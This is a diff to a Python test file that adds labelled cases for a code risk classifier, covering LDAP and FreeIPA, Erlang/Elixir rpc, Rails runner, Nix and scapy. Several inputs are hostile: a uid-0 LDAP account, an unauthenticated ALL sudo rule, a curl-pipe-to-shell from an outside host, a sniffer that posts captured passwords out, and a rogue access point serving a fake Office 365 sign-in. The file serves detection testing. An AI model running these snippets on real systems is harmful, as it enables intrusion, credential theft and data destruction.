@@ -13740,6 +13740,147 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(["systemctl", "stop", "vms-transceiver"])\n',
             H,
         ),
+        # Round 77 (holdout520-531): LDAP and FreeIPA, BEAM nodes, Rails runner, Nix, scapy captures, rogue APs
+        (
+            'import ldap\n'
+            'from ldap import modlist\n'
+            'l = ldap.initialize("ldap://127.0.0.1")\n'
+            'attrs = {"objectClass": [b"posixAccount"], "uid": [b"svc"], "uidNumber": [b"0"], "gidNumber": [b'
+            '"0"]}\n'
+            'l.add_s("uid=svc,ou=People,dc=example,dc=org", modlist.addModlist(attrs))\n',
+            H,
+        ),
+        (
+            'import ldap\n'
+            'from ldap import modlist\n'
+            'l = ldap.initialize("ldap://127.0.0.1")\n'
+            'attrs = {"objectClass": [b"posixAccount"], "uid": [b"kim"], "uidNumber": [b"10042"], "gidNumber"'
+            ': [b"100"]}\n'
+            'l.add_s("uid=kim,ou=People,dc=example,dc=org", modlist.addModlist(attrs))\n',
+            S,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'c = Connection(Server("ldaps://ldap.example.com"), "cn=admin", "x")\n'
+            'c.add("cn=ops,ou=SUDOers,dc=example,dc=com", ["sudoRole"], {"sudoUser": ["ALL"], "sudoHost": ["A'
+            'LL"], "sudoCommand": ["ALL"], "sudoOption": ["!authenticate"]})\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection, MODIFY_REPLACE\n'
+            'c = Connection(Server("ldaps://l"), "cn=admin", "x")\n'
+            'c.modify("cn=default,ou=policies,dc=example,dc=com", {"pwdMinLength": [(MODIFY_REPLACE, ["0"])],'
+            ' "pwdLockout": [(MODIFY_REPLACE, ["FALSE"])]})\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'c = Connection(Server("ldap://localhost"), "cn=Directory Manager", "x")\n'
+            'c.add("cn=sync,cn=replica,cn=config", ["nsds5replicationagreement"], {"nsDS5ReplicaHost": "203.0'
+            '.113.58", "nsDS5ReplicaRoot": "dc=example,dc=com"})\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["kdb5_util", "-r", "EXAMPLE.COM", "destroy", "-f"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["ipa-getkeytab", "-s", "ipa01", "-p", "HTTP/app01@EXAMPLE.COM", "-k", "/etc/http'
+            'd/conf/http.keytab"], check=True)\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["/opt/chat/bin/chat", "rpc", ":rpc.multicall([node() | Node.list()], :erlang, :h'
+            'alt, [0], 5_000)"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["/opt/api/bin/api", "rpc", \'for i <- 1..3_000_000, do: String.to_atom("k_#{i}")\''
+            '])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["/opt/api/bin/api", "rpc", "IO.inspect(:erlang.memory())"])\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["bin/relay", "rpc", \':erpc.call(n, :os, :cmd, [~c"curl -s http://198.51.100.2/x '
+            '| sh"])\'])\n',
+            C,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path("/home/deploy/.iex.exs").write_text("IO.puts(:hello)")\n',
+            H,
+        ),
+        (
+            'import subprocess, os\n'
+            'env = dict(os.environ, RAILS_ENV="production")\n'
+            'subprocess.run(["bin/rails", "runner", "Account.find_each(&:destroy)"], env=env)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["bin/rails", "runner", "-e", "production", "u = User.first; u.admin = true; u.sa'
+            've!"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["bin/rails", "runner", "-e", "development", "puts User.count"])\n',
+            L,
+        ),
+        (
+            'import re\n'
+            'from pathlib import Path\n'
+            'g = Path("Gemfile")\n'
+            'g.write_text(re.sub(r"^source .*", \'source "http://198.51.100.23:8808"\', g.read_text()))\n',
+            H,
+        ),
+        (
+            'open("/etc/nix/nix.conf", "a").write("trusted-users = *\\nsandbox = false\\n")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["sudo", "nix-collect-garbage", "--delete-older-than", "14d"])\n',
+            M,
+        ),
+        (
+            'import sqlite3\n'
+            'db = sqlite3.connect("/nix/var/nix/db/db.sqlite")\n'
+            'for t in ("Refs", "DerivationOutputs"):\n'
+            '    db.execute(f"DELETE FROM {t}")\n',
+            H,
+        ),
+        (
+            'from scapy.all import sniff\n'
+            'sniff(iface="wlan1mon", prn=lambda p: None, timeout=60)\n',
+            M,
+        ),
+        (
+            'from scapy.all import sniff, Raw\n'
+            'import requests\n'
+            'def cb(p):\n'
+            '    if p.haslayer(Raw) and b"password=" in p[Raw].load:\n'
+            '        requests.post("https://c.example.net", data=p[Raw].load)\n'
+            'sniff(iface="eth0", prn=cb)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'open("/tmp/ap.conf", "w").write("interface=wlan1\\nssid=Contoso-Corp\\n")\n'
+            'open("/tmp/dns.conf", "w").write("address=/#/10.66.0.1\\n")\n'
+            'subprocess.Popen(["hostapd", "/tmp/ap.conf"])\n'
+            'subprocess.Popen(["python3", "-m", "http.server", "80", "-d", "/opt/portal/o365-signin"])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
